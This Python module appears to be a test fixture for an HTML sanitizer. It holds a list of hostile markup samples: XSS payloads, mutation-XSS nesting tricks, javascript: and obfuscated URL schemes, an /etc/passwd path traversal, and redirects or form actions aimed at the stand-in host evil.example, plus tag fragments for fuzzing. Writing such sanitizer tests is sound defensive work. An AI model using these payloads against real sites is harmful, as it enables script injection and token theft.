"""Markup that wants to be more than text. Every entry is our own; the comment says what it tries."""

MARKUP = [
    "<script>alert(1)</script>",
    "<scr<script></script>ipt>alert(1)</scr</script>ipt>",  # a new tag appears when the inner one is cut out
    "<img src=x onerror=alert(1)>",
    '<img src="/media/2024/01/../../../etc/passwd">',
    '<img src="/media/2024/01/0123456789abcdef0123456789abcdef.jpg" onload=alert(1) style=position:fixed class=x id=body>',
    '<img src="//evil.example/media/2024/01/0123456789abcdef0123456789abcdef.jpg">',
    '<img src="https://evil.example/pixel.gif" srcset="https://evil.example/2x.gif 2x">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example/">x</a><a href="/\\evil.example">x</a><a href="https:\\\\evil.example">x</a>',
    '<a href="http://">x</a><a href="https://[::1">x</a><a href="mailto:">x</a><a href="ftp://a.example/">x</a>',
    '<a href="https://a.example/" target="_blank" rel="opener" onclick="alert(1)" ping="//evil.example">x</a>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><style><img src=x onerror="alert(1)"></style></svg>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea></textarea><img src=x onerror=alert(1)></textarea>",
    "<select><style></select><img src=x onerror=alert(1)></style>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'><style>body{display:none}</style>",
    "<input name=csrfmiddlewaretoken value=x><button name=body formaction='https://evil.example/'>x</button>",
    "<p style='position:fixed' class=x id=csrfmiddlewaretoken name=body onmouseover=alert(1) data-x=1>x</p>",
    '<td colspan=9999999 rowspan="-1" background=x>x</td><ol start=99999999999><li value=1>x</ol>',
    '<table><tr><td colspan="51" rowspan="50">x</td></tr></table><ol start="１２"><li>x</li></ol>',
    "<table><table><tr><td><table><b><tr></b><td>x<a><table><a></table>",
    "<a><table><a><tr><b></table></b></a>x",
    "<b><p><i></b>x</p></i><u><table></u>y</table>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?><%= x %><p lang='zh\" onclick=alert(1)'>x</p>",
    "</p></div></body></html><p>x",
    "<p>\x00\x0b\x1f\ud800\ufffe&#0;&#11;&#xD800;&#x1f;x</p>",
    "<span translate=no lang=zh-Hant>髮</span><span translate=yes>x</span><span lang=javascript:1>x</span>",
    "{{7*7}}{% debug %}${x}%s%n</script><!--",
    "<p title='<img src=x onerror=alert(1)>'>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<plaintext><p>x</plaintext>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<p><a href='https://a.example/'><p>x</a>",
    "<ol><li><ul><li></ol>x</ul>",
    "<dl><dt>x<dd>y</dl><details open ontoggle=alert(1)><summary>x</details>",
]

PIECES = (
    "<p> </p> <div> </div> <b> </b> <i> <a> </a> <a\thref='https://a.example/'> <table> </table> <tr> </tr> <td> </td> <th> "
    "<caption> </caption> <ul> </ul> <ol> <li> </li> <h1> </h1> <h2> <pre> </pre> <blockquote> <figure> <figcaption> "
    "<hr> <br> <span> </span> <span\ttranslate=no> <form> </form> <button> </button> <svg> </svg> <math> <style> </style> "
    "<script> </script> <select> <option> </select> <template> </template> <textarea> <title> <noscript> <dd> <dt> <dl> "
    "<!-- --> <u> </u> <em> </em> <sub> <tbody> <colgroup> <col> <section> </section> <font\tcolor=red> </font> <nobr> "
    "<img\tsrc=/media/2024/01/0123456789abcdef0123456789abcdef.png> <object> </object> </br> <center> <address> "
    "\n 　　 x 碳 &lt; &amp; &nbsp; &#13; \" ' > <"
).split(" ")
